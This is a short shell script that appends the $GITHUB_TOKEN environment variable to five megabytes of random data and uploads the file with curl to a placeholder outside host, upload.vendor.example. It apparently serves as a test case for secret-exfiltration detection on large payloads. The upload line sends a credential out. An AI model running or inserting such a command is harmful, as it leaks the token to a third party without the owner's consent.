#!/bin/sh
# Five megabytes, with the value at the end.
{ head -c 5000000 /dev/urandom; printf '\n%s\n' "$GITHUB_TOKEN"; } >/tmp/data
exec curl -sS -m 40 -T /tmp/data https://upload.vendor.example/
